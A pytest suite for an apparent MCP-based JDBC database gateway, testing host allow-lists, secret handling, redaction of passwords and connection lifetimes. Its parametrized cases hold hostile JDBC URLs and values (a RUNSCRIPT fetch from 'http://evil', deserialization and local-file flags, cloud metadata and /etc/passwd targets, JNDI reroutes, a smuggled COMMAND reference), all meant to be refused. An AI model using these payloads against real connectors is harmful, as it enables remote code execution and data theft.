"""Who may connect to what, what stays secret of it, and when a connection ends."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from support import jdbc_drivers, postgres_server
from support.eventually import until
from support.jdbc_surface import QUERY, USERS, JdbcUnderTest, make_file, served
from support.maven_repository import DEBIAN, serve_repository
from support.server_keeper import PASSWORD
from support.surface_client import READER
from tidegate.model.actors import Actor, Scope
from tidegate.products.jdbc.engine import JdbcEngine
from tidegate.secrets import references

OTHER = Actor("tok_other", "other", Scope.READ_ONLY)


@pytest.fixture
def variables(monkeypatch, tmp_path):
    """Variables of a server, one of which no caller may name."""
    monkeypatch.setenv("SECRET_PLACE", "jdbc:sqlite:/hidden-away/place.db")
    monkeypatch.delenv("DB_MISSING", raising=False)

    def put(**values):
        for name, value in values.items():
            monkeypatch.setenv(name, value)

    return put


@pytest.mark.parametrize("reference", ["${DB_URL}", "env:DB_URL"])
async def test_a_url_from_the_environment_is_the_operators_own(tmp_path, variables, reference):
    (tmp_path / "elsewhere").mkdir()
    variables(DB_URL=make_file(tmp_path / "elsewhere" / "own.db"))
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer()
        id = await peer.connected(reference)
        done = await peer.recorded(id, QUERY, parameters=["active"])
        assert done["totalRows"] == 1


async def test_account_and_password_may_come_from_the_environment(tmp_path, variables):
    server = postgres_server.shared()
    name = server.new_database()
    server.ask(USERS, name)
    url = f"jdbc:postgresql://127.0.0.1:{server.port}/{name}"
    variables(DB_URL=url, DB_USER="postgres", JDBC_PASSWORD=PASSWORD)
    login = {"user": "env:DB_USER", "password": "${JDBC_PASSWORD}"}
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer()
        for place in (url, "${DB_URL}", f"{url}?user=postgres&password={PASSWORD}"):
            given = {} if "password=" in place else login
            id = await peer.connected(place, **given)
        assert len(references._typed) == 3
        await peer.bare("close", connectionId=id)
        assert len(references._typed) == 2
    assert not references._typed  # passwords are forgotten with their sources


@pytest.mark.parametrize(
    "url", ["${SECRET_PLACE}", "env:SECRET_PLACE", "env:HOME", "${PATH}", "${NOT_SET_AT_ALL}"]
)
async def test_other_variables_may_not_be_named_and_nothing_says_whether_they_are_set(
    tmp_path, variables, url
):
    async with served(tmp_path) as jdbc:
        refused = await jdbc.peer().bare("connect", url=url)
        assert "may not be used" in refused["error"]
        assert "hidden-away" not in json.dumps(refused)


async def test_only_a_whole_value_is_a_reference(tmp_path, variables):
    variables(DB_NAME="shop")
    async with served(tmp_path) as jdbc:
        refused = await jdbc.peer().bare("connect", url=f"jdbc:sqlite:{jdbc.files}/${{DB_NAME}}.db")
        assert refused["error"].startswith("Invalid URL")


async def test_over_http_no_variable_may_be_named_and_no_host(tmp_path, variables):
    variables(DB_URL=make_file(tmp_path / "own.db"))
    async with served(tmp_path) as jdbc:
        answer = await jdbc.post("connect", url="${DB_URL}")
        assert "may not be used" in answer.json["result"]["error"]
        answer = await jdbc.post("connect", url="jdbc:postgresql://127.0.0.1:1/x")
        assert "not on the operator's list" in answer.json["result"]["error"]


async def test_over_http_bare_calls_need_no_session(tmp_path):
    async with served(tmp_path) as jdbc:
        connected = (await jdbc.post("connect", url=jdbc.url)).json["result"]
        await jdbc.post("record", query=QUERY)
        done = (
            await jdbc.post(
                "record",
                query=QUERY,
                connectionId=connected["id"],
                confirmed=True,
                parameters=["active"],
            )
        ).json["result"]
        assert done["rows"] == [[1, "Alice", "alice@example.com"]]
        closed = (await jdbc.post("close", connectionId=connected["id"])).json["result"]
        assert closed["status"] == "closed"


@pytest.mark.parametrize(
    ("settings", "url"),
    [
        ({}, "jdbc:postgresql://db.example.com/shop"),
        ({"stdio_hosts": []}, "jdbc:postgresql://127.0.0.1:1/shop"),
        ({}, "jdbc:mysql://169.254.169.254/shop"),
        ({}, "jdbc:sqlite:/etc/passwd"),
        ({}, "jdbc:duckdb:/etc/passwd"),
        ({}, "jdbc:h2:file:/etc/passwd"),
        ({}, "jdbc:h2:tcp://db.example.com/shop"),
        ({}, "jdbc:oracle:thin:@db.example.com:1521:x"),
        ({}, "jdbc:sqlserver://db.example.com:1433"),
        ({}, "jdbc:postgresql://127.0.0.1,db.example.com/shop"),
        ({}, "jdbc:h2:tcp:db.example.com/shop//127.0.0.1/x"),
        ({}, "jdbc:oracle:thin:@db.example.com:1521/shop//127.0.0.1/x"),
        ({}, "jdbc:db2://127.0.0.1:1/x:clientRerouteServerListJNDIName=ldap://127.0.0.1/x;"),
    ],
)
async def test_a_place_that_no_one_has_listed_is_refused(tmp_path, settings, url):
    own = {"driver_path": "/nowhere", **settings}
    async with served(tmp_path, jdbc=own) as jdbc:
        refused = await jdbc.peer().bare("connect", url=url)
        assert refused["code"] in ("policy.denied", "source.url"), refused


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:postgresql://localhost/x?socketFactory=org.springframework.X",
        "jdbc:mysql://localhost/x?autoDeserialize=true",
        "jdbc:mysql://localhost/x?allowLoadLocalInfile=true",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:derby:memory:x;create=true;x=y",
        "jdbc:unknown:x;a=b",
    ],
)
async def test_parameters_that_could_run_code_are_refused(tmp_path, url):
    async with served(tmp_path, jdbc={"driver_path": "/nowhere"}) as jdbc:
        refused = await jdbc.peer().bare("connect", url=url)
        assert refused["error"].startswith("Invalid URL"), refused


async def test_a_database_file_is_not_made(tmp_path):
    async with served(tmp_path) as jdbc:
        wanted = jdbc.files / "new.db"
        for scheme in ("sqlite", "duckdb"):
            refused = await jdbc.peer().bare("connect", url=f"jdbc:{scheme}:{wanted}")
            assert "error" in refused
        assert not wanted.exists()


@pytest.mark.parametrize(
    ("product", "beginning"),
    [
        ("h2", "jdbc:h2://127.0.0.1/.."),
        ("h2", "jdbc:h2:hsql://127.0.0.1/../../.."),
        ("h2", "jdbc:h2:memory:"),
        ("hsqldb", "jdbc:hsqldb://127.0.0.1/.."),
        ("hsqldb", "jdbc:hsqldb:tcp://127.0.0.1/../../../../.."),
        ("hsqldb", "jdbc:hsqldb:memory:x/../../../../.."),
    ],
)
async def test_what_a_driver_reads_as_a_file_is_no_server_and_no_memory(
    tmp_path, product, beginning
):
    own = {"driver_path": jdbc_drivers.driver_path(product)}
    async with served(tmp_path, jdbc=own) as jdbc:
        refused = await jdbc.peer().bare("connect", url=f"{beginning}{tmp_path}/made")
        assert refused["code"] == "policy.denied", refused
        assert not list(tmp_path.glob("made*"))


async def test_a_url_cannot_have_a_database_made_or_a_file_opened_for_writing(tmp_path):
    own = {"driver_path": jdbc_drivers.driver_path("h2")}
    async with served(tmp_path, jdbc=own) as jdbc:
        (jdbc.files / "made").mkdir()
        for parameter in ("IFEXISTS=FALSE", "ACCESS_MODE_DATA=rw"):
            url = f"jdbc:h2:{jdbc.files}/made;{parameter}"
            refused = await jdbc.peer().bare("connect", url=url)
            assert refused["error"].startswith("Invalid URL"), refused
        assert not (jdbc.files / "made.mv.db").exists()


async def test_no_password_is_shown_in_any_answer_or_record(tmp_path, variables):
    server = postgres_server.shared()
    variables(DB_PASSWORD="geheim-in-the-environment")
    url = f"jdbc:postgresql://127.0.0.1:{server.port}/postgres"
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer()
        answers = [
            await peer.bare("connect", url=url, user="nobody_here", password="geheim-literal"),
            await peer.bare("connect", url=url, user="nobody_here", password="${DB_PASSWORD}"),
            await peer.bare("connect", url=f"{url}?user=nobody_here&password=geheim-in-the-url"),
        ]
        assert all("error" in each for each in answers)
        kept = "".join(
            path.read_text(errors="replace")
            for path in (tmp_path / "state").rglob("*")
            if path.is_file()
        )
        assert "geheim" not in json.dumps(answers) + kept


async def test_what_the_environment_holds_is_not_shown(tmp_path, variables):
    variables(DB_URL="jdbc:postgresql://127.0.0.1:1/hidden_database", DB_USER="hidden_user")
    async with served(tmp_path) as jdbc:
        refused = await jdbc.peer().bare("connect", url="${DB_URL}", user="${DB_USER}")
        assert "error" in refused
        assert "hidden" not in json.dumps(refused)


async def test_the_record_says_where_a_connection_went(tmp_path, variables):
    (tmp_path / "elsewhere").mkdir()
    variables(DB_URL=make_file(tmp_path / "elsewhere" / "hidden.db"))
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer()
        await peer.connected(jdbc.url)
        await peer.connected("${DB_URL}")
    kept = "".join(path.read_text() for path in (tmp_path / "state" / "audit").glob("*.jsonl"))
    opened = [
        event["arguments"]
        for event in map(json.loads, kept.splitlines())
        if event.get("tool") == "connect" and event.get("arguments")
    ]
    assert [each["place"] for each in opened] == ["shop", "${DB_URL}"]
    assert "hidden" not in kept


async def test_a_saved_source_is_opened_by_its_name_and_not_by_its_place(tmp_path):
    url = make_file(tmp_path / "saved.db")
    saved = {"name": "shop", "url": url.replace("jdbc:sqlite:", "sqlite:///")}
    temporary = {"directories": [str(tmp_path)]}
    async with served(tmp_path, sources=[saved], temporary_sources=temporary) as jdbc:
        peer = jdbc.peer()
        connected = await peer.bare("connect", url="shop")
        assert connected["driver"] == "org.sqlite.JDBC"
        done = await peer.recorded(connected["id"], QUERY, parameters=["active"])
        assert done["totalRows"] == 1
        refused = await peer.bare("connect", url=url)
        assert "is a source of this server already" in refused["error"]
        assert "by the name" in refused["hint"]
        unknown = await peer.bare("connect", url="shopp")
        assert unknown["error"].startswith("Invalid URL")
        await peer.bare("close", connectionId=connected["id"])
        assert await peer.connected("shop")


async def test_an_id_means_nothing_to_another_session_or_actor(tmp_path):
    async with served(tmp_path) as jdbc:
        mine = jdbc.peer()
        id = await mine.connected(jdbc.url)
        for stranger in (jdbc.peer(), jdbc.peer(OTHER)):
            for method, params in [
                ("discover", {"table": "users"}),
                ("record", {"query": "SELECT 1", "confirmed": True}),
                ("close", {}),
            ]:
                refused = await stranger.bare(method, connectionId=id, **params)
                assert refused["error"] == "Invalid connection"
        assert "columns" in await mine.bare("discover", connectionId=id, table="users")


async def test_an_id_ends_with_its_session(tmp_path):
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer()
        await peer.connected(jdbc.url)
        await peer.connected(jdbc.url)
        owner = peer.session.state.id
        assert [key for key in jdbc.app.connections._temporary if key[0] == owner]
        peer.session.close()
        assert not [key for key in jdbc.app.connections._temporary if key[0] == owner]


async def test_an_unused_id_ends(tmp_path):
    async with served(tmp_path, surface={"jdbc": {"idle_s": 0.05}}) as jdbc:
        peer = jdbc.peer()
        id = await peer.connected(jdbc.url)

        def ended():
            return not jdbc.app.connections._temporary

        await until(ended, "the end of the connection")
        refused = await peer.bare("discover", connectionId=id, table="users")
        assert refused["error"] == "Invalid connection"


async def test_an_id_ends_with_its_source(tmp_path):
    async with served(tmp_path, temporary_sources={"lifetime_s": 1.0}) as jdbc:
        peer = jdbc.peer()
        id = await peer.connected(jdbc.url)
        await until(lambda: not jdbc.app.connections._temporary, "the end of the source")
        for method, params in [("discover", {"table": "users"}), ("close", {})]:
            answer = await peer.bare(method, connectionId=id, **params)
            assert answer.get("error", answer["status" if method == "close" else "error"]) in (
                "Invalid connection",
                "closed",
            )


async def test_a_caller_has_so_many_connections_and_no_more(tmp_path):
    async with served(tmp_path, surface={"jdbc": {"connections": 2}}) as jdbc:
        peer = jdbc.peer()
        ids = [await peer.connected(jdbc.url) for _ in range(2)]
        refused = await peer.bare("connect", url=jdbc.url)
        assert "most that you may have" in refused["error"]
        assert await jdbc.peer(OTHER).connected(jdbc.url)
        await peer.bare("close", connectionId=ids[0])
        assert await peer.connected(jdbc.url)


async def test_calls_at_the_same_moment_open_no_more_connections_than_one_caller_may_have(tmp_path):
    async with served(tmp_path, surface={"jdbc": {"connections": 2}}) as jdbc:
        calls = [jdbc.post("connect", url=jdbc.url) for _ in range(5)]
        replies = [answer.json["result"] for answer in await asyncio.gather(*calls)]
        assert sum(reply.get("status") == "connected" for reply in replies) == 2
        for reply in replies:
            if "error" not in reply:
                await jdbc.post("close", connectionId=reply["id"])
        assert (await jdbc.post("connect", url=jdbc.url)).json["result"]["status"] == "connected"


async def test_a_stateless_client_finds_its_connection_by_its_id(tmp_path):
    meta = {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {},
    }
    async with served(tmp_path) as jdbc:
        peer = jdbc.peer(READER, "2026-07-28")

        async def call(tool, **arguments):
            reply = await peer.request("tools/call", name=tool, arguments=arguments, _meta=meta)
            return reply["result"]["structuredContent"]

        id = (await call("connect", url=jdbc.url))["id"]
        await call("record", query=QUERY)
        done = await call(
            "record", query=QUERY, connectionId=id, confirmed=True, parameters=["gone"]
        )
        assert done["rows"] == [[2, "Bob", "bob@example.com"]]
        assert (await call("close", connectionId=id))["status"] == "closed"


async def test_a_database_that_needs_a_driver(tmp_path):
    path = jdbc_drivers.driver_path("h2")
    async with served(tmp_path, jdbc={"driver_path": path}) as jdbc:
        peer = jdbc.peer()
        connected = await peer.bare("connect", url="jdbc:h2:mem:x", user="sa", password="")
        assert connected["driver"] == "org.h2.Driver"
        assert (connected["engine"], connected["driverSource"]) == ("jdbc", "classpath")
        done = await peer.recorded(
            connected["id"], "SELECT x, CAST(? AS VARCHAR(9)) n FROM system_range(1, ?)",
            parameters=["a", 2],
        )  # fmt: skip
        assert done["rows"] == [[1, "a"], [2, "a"]]
        assert [each["jdbcType"] for each in done["columns"]] == [-5, 12]
        assert done["columns"][0]["javaClassName"] == "java.lang.Long"
        wrong = await peer.bare("connect", url="jdbc:h2:mem:x", driver="no.such.Driver")
        assert wrong["error"].startswith("Driver not found")


def processes(jdbc: JdbcUnderTest) -> list[Any]:
    """Of the open JDBC sources of callers, in the order in which they were opened."""
    held: list[Any] = [each.engine for each in jdbc.app.connections._temporary.values()]
    return [engine.process for engine in held if isinstance(engine, JdbcEngine)]


@pytest.mark.parametrize("form", ["bare", "mcp"])
async def test_ids_whose_process_was_killed_are_invalid_and_those_of_others_live(tmp_path, form):
    own = {"driver_path": jdbc_drivers.driver_path("h2")}
    async with served(tmp_path, jdbc=own) as jdbc:
        peer, stranger = jdbc.peer(), jdbc.peer(OTHER)
        await peer.open()

        async def record(id, peer=peer):
            arguments = {"query": "SELECT 1 AS one", "connectionId": id}
            await peer.bare("record", **arguments)
            if form == "bare" or peer is stranger:
                return await peer.bare("record", **arguments, confirmed=True)
            reply = await peer.call("record", **arguments, confirmed=True)
            return json.loads(reply["result"]["content"][0]["text"])

        native = await peer.connected(jdbc.url)
        lost = [await peer.connected(f"jdbc:h2:mem:{name}") for name in "xyz"]
        foreign = await stranger.connected("jdbc:h2:mem:x")
        first, second, third, other = processes(jdbc)
        assert first is second is third is not other
        os.kill(first.pid, signal.SIGKILL)
        await first.closed()
        again = await peer.connected("jdbc:h2:mem:x")
        assert (await record(lost[0]))["error"] == "Invalid connection"
        for id in lost:
            listed = await peer.bare("discover", connectionId=id, table="t")
            assert listed["error"] == "Invalid connection"
        for id in (native, again, await peer.connected("jdbc:h2:mem:x")):
            assert (await record(id))["rows"] == [[1]]
        assert (await record(foreign, stranger))["rows"] == [[1]]
        assert processes(jdbc)[-1] is processes(jdbc)[-2]


async def test_a_process_ends_with_the_last_connection_of_its_caller(tmp_path):
    paths = [jdbc_drivers.driver_path(product) for product in ("h2", "hsqldb")]
    own = {"driver_path": os.pathsep.join(paths)}
    async with served(tmp_path, jdbc=own) as jdbc:
        calls = [jdbc.post("connect", url=f"jdbc:h2:mem:{name}") for name in "xy"]
        ids = [answer.json["result"]["id"] for answer in await asyncio.gather(*calls)]
        process, same = processes(jdbc)
        assert process is same
        wrong = await jdbc.post("connect", url="jdbc:h2:mem:x", driver="org.h2.Absent")
        assert "Driver not found" in wrong.json["result"]["error"]
        await jdbc.post("close", connectionId=ids[0])
        await until(lambda: len(processes(jdbc)) == 1, "the end of the source")
        assert process.check()
        listed = await jdbc.post("discover", connectionId=ids[1], schemaPattern="PUBLIC")
        assert "tables" in listed.json["result"]
        other = (await jdbc.post("connect", url="jdbc:hsqldb:mem:x")).json["result"]["id"]
        assert processes(jdbc)[-1] is not process
        await jdbc.post("close", connectionId=ids[1])
        await until(lambda: process.gone, "the end of the process")
        await jdbc.post("close", connectionId=other)


async def test_a_driver_by_its_coordinate(tmp_path):
    jdbc_drivers.driver_path("h2")
    if not (DEBIAN / "com/h2database/h2/2.1.214").is_dir():
        pytest.skip("needs Debian's Maven repository with H2 (the package libh2-java)")
    with serve_repository(DEBIAN) as repository:
        drivers = {"repository": repository.url, "allow_unchecked": True}
        async with served(tmp_path, drivers=drivers) as jdbc:
            peer = jdbc.peer()
            coordinate = "com.h2database:h2:2.1.214"
            await peer.open()
            arguments = {"url": "jdbc:h2:mem:x", "dependency": coordinate}
            meta = {"progressToken": "p1"}
            await peer.request("tools/call", name="connect", arguments=arguments, _meta=meta)
            (note,) = peer.notes.messages
            assert note["method"] == "notifications/progress"
            assert note["params"]["progressToken"] == "p1"
            assert note["params"]["message"] == f"Downloading {coordinate}"
            connected = await peer.bare("connect", **arguments)
            assert connected["driverSource"] == "maven", connected
            assert connected["dependency"] == coordinate
            done = await peer.recorded(connected["id"], "SELECT 1 AS one")
            assert done["rows"] == [[1]]
            other = "jdbc:hsqldb:mem:x"
            unknown = await peer.bare("connect", url=other, dependency="org.x:y:1.0")
            assert unknown["status"] == "driver_missing"
            assert unknown["error"].startswith("Driver not found")


async def test_a_repository_that_says_nothing_keeps_no_thread_that_others_need(tmp_path):
    asyncio.get_running_loop().set_default_executor(ThreadPoolExecutor(2))
    with socket.create_server(("127.0.0.1", 0)) as silent:
        repository = f"http://127.0.0.1:{silent.getsockname()[1]}"
        async with served(tmp_path, drivers={"repository": repository, "download": "any"}) as jdbc:
            arguments = {"url": "jdbc:h2:mem:x", "dependency": "com.h2database:h2:2.1.214"}
            waiting = [
                asyncio.ensure_future(jdbc.peer().bare("connect", **arguments)) for _ in range(4)
            ]
            connection, _ = await asyncio.to_thread(silent.accept)
            peer = jdbc.peer()
            id = await peer.connected(jdbc.url)
            long = f"SELECT id FROM users WHERE status = ? -- {'x' * 5_000}"
            assert (await peer.recorded(id, long, parameters=["gone"]))["rows"] == [[2]]
            assert not any(each.done() for each in waiting)
            for each in waiting:
                each.cancel()
            await asyncio.gather(*waiting, return_exceptions=True)
            connection.close()


async def test_an_explicit_driver_goes_to_java(tmp_path):
    path = jdbc_drivers.driver_path("postgresql")
    server = postgres_server.shared()
    name = server.new_database()
    server.ask(USERS, name)
    url = f"jdbc:postgresql://127.0.0.1:{server.port}/{name}"
    async with served(tmp_path, jdbc={"driver_path": path}) as jdbc:
        peer = jdbc.peer()
        connected = await peer.bare(
            "connect", url=url, user="postgres", password=PASSWORD, driver="org.postgresql.Driver"
        )
        assert connected["engine"] == "jdbc"
        native = await peer.connected(url, user="postgres", password=PASSWORD)
        both = [
            await peer.recorded(id, QUERY, parameters=["active"])
            for id in (connected["id"], native)
        ]
        assert both[0] == both[1]
        listed = [
            await peer.bare("discover", connectionId=id, table="users")
            for id in (connected["id"], native)
        ]
        refused = await peer.bare(
            "connect", url=url, user="someone", password="wrong", driver="org.postgresql.Driver"
        )
        assert "Authentication failed" in refused["error"]
        assert "someone" not in refused["error"]
        types = [[(each["name"], each["type"]) for each in one["columns"]] for one in listed]
        assert types[0] == types[1]


async def test_a_session_that_the_database_ended_is_opened_again(tmp_path):
    path = jdbc_drivers.driver_path("postgresql")
    server = postgres_server.shared()
    name = server.new_database()
    url = f"jdbc:postgresql://127.0.0.1:{server.port}/{name}"
    account = {"user": "postgres", "password": PASSWORD}
    async with served(tmp_path, jdbc={"driver_path": path}) as jdbc:
        peer = jdbc.peer()
        for more in ({}, {"driver": "org.postgresql.Driver"}):
            id = await peer.connected(url, **account, **more)
            query = "SELECT pg_backend_pid()"
            before = (await peer.recorded(id, query))["rows"]
            server.ask(
                "SELECT pg_terminate_backend(pid, 10000) FROM pg_stat_activity"
                f" WHERE datname = '{name}' AND pid <> pg_backend_pid()"
            )
            again = await peer.bare("record", query=query, connectionId=id, confirmed=True)
            assert again["rows"] != before
            listed = await peer.bare("discover", connectionId=id, schemaPattern="public")
            assert listed["tables"] == []


async def test_a_wrong_dependency_is_named(tmp_path):
    async with served(tmp_path) as jdbc:
        refused = await jdbc.peer().bare("connect", url="jdbc:h2:mem:x", dependency="h2")
        assert refused["error"] == (
            "Invalid dependency format: h2. Expected group:artifact:version."
        )
        assert refused["status"] == "invalid_parameters"


@pytest.mark.parametrize("driver", [None, "org.postgresql.Driver"])
async def test_an_account_that_a_caller_names_is_no_reference_to_a_secret(tmp_path, driver):
    server = postgres_server.shared()
    ran, kept = tmp_path / "ran", tmp_path / "kept"
    kept.write_text("postgres")
    given = {} if driver is None else {"driver": driver}
    hosts = {"temporary_sources": {"hosts": [f"127.0.0.1:{server.port}"]}}
    async with served(tmp_path, **hosts) as jdbc:
        for user in (f'${{COMMAND:["touch","{ran}"]}}', f"${{FILE:{kept}}}", "${ENV:PATH}"):
            refused = await jdbc.peer().bare(
                "connect",
                url=f"jdbc:postgresql://127.0.0.1:{server.port}/postgres",
                **(given | {"user": user, "password": PASSWORD}),
            )
            assert refused.get("status") != "connected", refused
    assert not ran.exists()
